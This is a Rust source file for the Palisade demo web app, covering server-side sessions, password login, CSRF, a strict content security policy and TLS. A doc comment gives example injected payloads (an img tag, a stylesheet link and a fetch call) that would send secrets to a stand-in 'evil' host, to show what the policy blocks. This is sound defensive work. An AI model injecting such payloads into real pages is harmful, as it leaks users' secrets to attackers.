//! The Palisade demo: register, log in, see your account, log out.
//!
//! Server-side sessions in SQLite (`<data_dir>/palisade.db`), users with
//! Argon2id password hashes in the same database, pages rendered with
//! minijinja (auto-escaped). Everything a test needs to run the app
//! in-process is public: build a [`DemoConfig`], call [`build_app`], serve
//! the router on any listener, with the peer address (sign-in binds the
//! session to the client's IP and is refused without it).
//!
//! ```no_run
//! # async fn run() -> Result<(), palisade_demo::DemoError> {
//! use palisade::keys::KeyRing;
//! let config = palisade_demo::DemoConfig::new("/tmp/demo-data")
//!     .with_keys(KeyRing::from_base64(&KeyRing::generate_secret_base64())?);
//! let app = palisade_demo::build_app(&config).await?;
//! let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("bind");
//! let app = app.into_make_service_with_connect_info::<std::net::SocketAddr>();
//! axum::serve(listener, app).await.expect("serve");
//! # Ok(()) }
//! ```
#![forbid(unsafe_code)]

pub mod config;
mod forms;
mod routes;
pub mod secret;
pub mod session_store;
mod templates;
pub mod tls;
pub mod users;

use axum::http::header::CACHE_CONTROL;
use axum::http::HeaderValue;
use axum::Router;
use palisade::auth::AuthConfig;
use palisade::client::{RequestScheme, TrustedProxyLayer};
use palisade::headers::{ContentSecurityPolicy, Directive, Source};
use palisade::keys::{KeyError, KeyRing};
use palisade::remember::RememberMe;
use palisade::session::SessionConfigError;
use palisade::stack::StackError;
use palisade::store::{SqliteStore, StoreError};
use palisade::throttle::Throttle;
use palisade::Stack;
use std::net::{Ipv4Addr, SocketAddr};
use std::path::{Path, PathBuf};
use tokio::task::JoinHandle;

pub use config::{Args, ConfigError};
pub use secret::SecretError;
pub use session_store::StoreChoice;
pub use tls::TlsChoice;
pub use users::UsersError;

/// File name of the SQLite database (sessions and users) in the data directory.
pub const DATABASE_FILE: &str = "palisade.db";
/// Where the demo listens unless told otherwise.
pub const DEFAULT_ADDR: SocketAddr = SocketAddr::new(std::net::IpAddr::V4(Ipv4Addr::LOCALHOST), 3000);

/// Everything the demo needs to start.
#[derive(Clone, Debug)]
pub struct DemoConfig {
    /// Address [`serve`] listens on (ignored by [`build_app`]).
    pub addr: SocketAddr,
    /// Directory for the database and the generated secret; created if missing.
    pub data_dir: PathBuf,
    /// The session secret. `None`: read `<data_dir>/secret_key`, generating
    /// it (mode 0600) on first start so sessions survive restarts.
    /// (`KeyRing`'s `Debug` shows key ids only, never key material.)
    pub keys: Option<KeyRing>,
    /// Where sessions live (default: SQLite in the data directory).
    pub store: StoreChoice,
    /// HTTPS on `addr` (default off: plain HTTP).
    pub tls: TlsChoice,
    /// With HTTPS: a plain-HTTP listener that only redirects to HTTPS.
    pub http_redirect_addr: Option<SocketAddr>,
    /// Hosts the HTTPS redirect may send browsers to.
    pub hosts: Vec<String>,
    /// Proxies whose forwarding headers are believed (default: none).
    pub trusted_proxies: TrustedProxyLayer,
    /// A Flask app on the same host whose logins `/from-flask` shows
    /// (default: none, and no such page).
    pub flask: Option<FlaskBridge>,
}

/// The Flask app the demo reads logins from, during a move from Flask.
#[derive(Clone, Debug)]
pub struct FlaskBridge {
    /// Its `SECRET_KEY`, only to verify (never Palisade's own keys).
    pub keys: palisade::flask::FlaskKeys,
    /// Its login page, linked from `/from-flask`.
    pub login_url: Option<String>,
}

impl FlaskBridge {
    /// The reader of its cookies: Flask's defaults, strong session
    /// protection from the client address Palisade trusts.
    pub(crate) fn app(&self) -> palisade::flask::FlaskApp {
        palisade::flask::FlaskApp::new(self.keys.clone())
    }
}

impl DemoConfig {
    /// Defaults: listen on `127.0.0.1:3000`, secret from the data directory.
    pub fn new(data_dir: impl Into<PathBuf>) -> Self {
        Self {
            addr: DEFAULT_ADDR,
            data_dir: data_dir.into(),
            keys: None,
            store: StoreChoice::Sqlite,
            tls: TlsChoice::Off,
            http_redirect_addr: None,
            hosts: ["localhost", "127.0.0.1", "::1"].map(String::from).to_vec(),
            trusted_proxies: TrustedProxyLayer::no_proxies(),
            flask: None,
        }
    }

    /// Show who is signed in to this Flask app at `/from-flask`.
    pub fn with_flask(mut self, flask: FlaskBridge) -> Self {
        self.flask = Some(flask);
        self
    }

    /// Use this key ring instead of the data directory's secret file.
    pub fn with_keys(mut self, keys: KeyRing) -> Self {
        self.keys = Some(keys);
        self
    }

    /// Keep sessions in `store`.
    pub fn with_store(mut self, store: StoreChoice) -> Self {
        self.store = store;
        self
    }

    /// Listen on `addr`.
    pub fn with_addr(mut self, addr: SocketAddr) -> Self {
        self.addr = addr;
        self
    }
}

/// Why the demo could not start or stopped.
#[derive(Debug, thiserror::Error)]
#[non_exhaustive]
pub enum DemoError {
    #[error("cannot create the data directory {path}: {source}")]
    DataDir { path: PathBuf, source: std::io::Error },
    #[error(transparent)]
    Key(#[from] KeyError),
    #[error(transparent)]
    Secret(#[from] SecretError),
    #[error("cannot open the session store: {0}")]
    Store(#[from] StoreError),
    #[error("invalid session configuration: {0}")]
    Session(#[from] SessionConfigError),
    #[error("invalid security configuration: {0}")]
    Stack(#[from] StackError),
    #[error("cannot prepare the users table: {0}")]
    Users(#[from] UsersError),
    #[error("cannot load the page templates: {0}")]
    Templates(#[from] minijinja::Error),
    #[error("invalid HTTPS redirect (--hosts): {0}")]
    Redirect(#[from] palisade::https::HttpsRedirectError),
    #[error(transparent)]
    Tls(#[from] tls::TlsError),
    #[error("cannot listen on {addr}: {source}")]
    Bind { addr: SocketAddr, source: std::io::Error },
    #[error("server error: {0}")]
    Serve(std::io::Error),
}

/// At most this many devices signed in per user; one more signs out the
/// oldest (shown on the devices page).
pub const MAX_SESSIONS_PER_USER: usize = 10;

/// The demo's name in its key derivation.
pub const APP_CONTEXT: &str = "palisade-demo";

/// Builds the whole app (routes, session layer, security middleware) and
/// starts the background session sweeper on the current tokio runtime.
pub async fn build_app(config: &DemoConfig) -> Result<Router, DemoError> {
    Ok(build(config).await?.0)
}

async fn build(config: &DemoConfig) -> Result<(Router, Option<JoinHandle<()>>), DemoError> {
    create_data_dir(&config.data_dir)?;
    let keys = match &config.keys {
        Some(keys) => keys.clone(),
        None => secret::load_or_generate(&config.data_dir)?,
    };
    // Its own HKDF context: another app given the same secret cannot read
    // or forge the demo's cookies (KeyRing::with_app_context).
    let keys = keys.with_app_context(APP_CONTEXT)?;
    // One database file: the session store's own connections, and the
    // users table's (sqlx) beside them.
    let path = config.data_dir.join(DATABASE_FILE);
    let database = SqliteStore::open(&path).await?;
    let users = users::Users::open(&path).await?;
    let stamps = users.clone();
    let opened = config.store.open(&database, keys).await?;
    let (sessions, sweeper) = (opened.sessions, opened.sweeper);
    tracing::info!(store = ?config.store, "session store ready");
    // Password guesses and registrations counted per account and network
    // in the session store (palisade::throttle's defaults).
    let throttle = Throttle::from_arc(opened.attempts);
    let state = routes::AppState { users, throttle, templates: std::sync::Arc::new(templates::Templates::new()?) };
    // Palisade's stack on its defaults (CSRF with logout at /logout, a
    // strict nonce-based CSP reporting to /csp-report, the other security
    // headers), plus: sign-in with remember-me for the login form's
    // checkbox; `no-store` for every response that did not choose a caching
    // policy (pages show per-user data); the client's address and scheme
    // from the listener or trusted proxies; with TLS, plain HTTP redirected.
    let auth = AuthConfig::new()
        .login_path("/login")
        .remember_me(RememberMe::new())
        .max_sessions_per_user(MAX_SESSIONS_PER_USER)
        .credential_stamp(stamps);
    let scheme = if config.tls.is_on() { RequestScheme::Https } else { RequestScheme::Http };
    let stack = Stack::from_sessions(sessions)
        .auth(auth)
        .security_headers(|headers| {
            headers
                .content_security_policy(content_security_policy())
                .header(CACHE_CONTROL, HeaderValue::from_static("no-store"))
        })
        .trusted_proxies(config.trusted_proxies.clone().connection_scheme(scheme));
    let stack = if config.tls.is_on() { stack.https_redirect(tls::https_redirect(config)?) } else { stack };
    let app = stack.build()?.wrap(routes::router(state, config.flask.as_ref()));
    Ok((app, sweeper))
}

/// The demo's policy: Palisade's strict one with `default-src 'none'`, so
/// every kind of resource the pages do not use (fonts, frames, media,
/// workers, manifests) is refused, and each one they do use is allowed
/// from this origin only: an injected `<img src=https://evil/?secret>`,
/// `<link rel=stylesheet href=https://evil/>` or `fetch("https://evil/")`
/// exfiltrates nothing. Scripts still need the per-response nonce
/// (`strict-dynamic` lets those scripts load others). The stack adds
/// `report-uri /csp-report`.
fn content_security_policy() -> ContentSecurityPolicy {
    ContentSecurityPolicy::strict()
        .with(Directive::DefaultSrc, [Source::None])
        .with(Directive::StyleSrc, [Source::SelfOrigin])
        .with(Directive::ImgSrc, [Source::SelfOrigin])
        .with(Directive::ConnectSrc, [Source::SelfOrigin])
}

/// Runs the demo on `config.addr` until Ctrl-C (or SIGTERM), then lets the
/// requests in flight finish.
pub async fn serve(config: DemoConfig) -> Result<(), DemoError> {
    let (app, sweeper) = build(&config).await?;
    let app = app.into_make_service_with_connect_info::<SocketAddr>();
    if let Some(rustls) = tls::rustls_config(&config.tls).await? {
        let served = tls::serve_https(&config, rustls, app, shutdown_signal()).await;
        if let Some(sweeper) = sweeper {
            sweeper.abort();
        }
        tracing::info!("shut down");
        return served;
    }
    let listener = tokio::net::TcpListener::bind(config.addr)
        .await
        .map_err(|source| DemoError::Bind { addr: config.addr, source })?;
    let addr = listener.local_addr().map_err(DemoError::Serve)?;
    if !addr.ip().is_loopback() {
        tracing::warn!(
            %addr,
            "listening on a non-loopback address: browsers only send the Secure session cookie over HTTPS \
             (or to localhost), so put this behind a TLS-terminating proxy"
        );
    }
    tracing::info!("Palisade demo listening on http://{addr}");
    let served = axum::serve(listener, app).with_graceful_shutdown(shutdown_signal()).await;
    if let Some(sweeper) = sweeper {
        sweeper.abort();
    }
    tracing::info!("shut down");
    served.map_err(DemoError::Serve)
}

async fn shutdown_signal() {
    let ctrl_c = async {
        if let Err(err) = tokio::signal::ctrl_c().await {
            tracing::error!(error = %err, "cannot listen for Ctrl-C");
            std::future::pending::<()>().await;
        }
    };
    let terminate = async {
        match tokio::signal::unix::signal(tokio::signal::unix::SignalKind::terminate()) {
            Ok(mut sigterm) => {
                sigterm.recv().await;
            }
            Err(err) => {
                tracing::error!(error = %err, "cannot listen for SIGTERM");
                std::future::pending::<()>().await;
            }
        }
    };
    tokio::select! {
        () = ctrl_c => {}
        () = terminate => {}
    }
    tracing::info!("shutdown requested; finishing requests in flight");
}

/// Creates the data directory (mode 0700: it holds the secret and the
/// sessions) if it is missing.
fn create_data_dir(path: &Path) -> Result<(), DemoError> {
    use std::os::unix::fs::DirBuilderExt;
    std::fs::DirBuilder::new()
        .recursive(true)
        .mode(0o700)
        .create(path)
        .map_err(|source| DemoError::DataDir { path: path.to_owned(), source })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn config_debug_shows_no_key_material() {
        let secret = KeyRing::generate_secret_base64();
        let config = DemoConfig::new("d").with_keys(KeyRing::from_base64(&secret).unwrap());
        assert!(!format!("{config:?}").contains(secret.as_str()));
    }
}
